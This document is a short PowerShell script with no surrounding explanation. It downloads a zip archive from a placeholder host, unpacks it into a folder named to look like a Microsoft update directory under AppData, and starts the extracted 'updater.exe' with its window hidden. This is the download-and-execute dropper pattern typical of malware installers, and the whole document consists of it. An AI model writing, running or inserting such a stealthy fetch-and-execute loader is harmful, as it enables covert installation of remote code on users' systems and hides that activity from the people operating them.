$d = "$env:APPDATA\Microsoft\Update"
$z = "$env:TEMP\a.zip"
(New-Object Net.WebClient).DownloadFile("https://files.payload.invalid/assets.zip", $z)
Expand-Archive -Path $z -DestinationPath $d -Force
Start-Process "$d\updater.exe" -WindowStyle Hidden
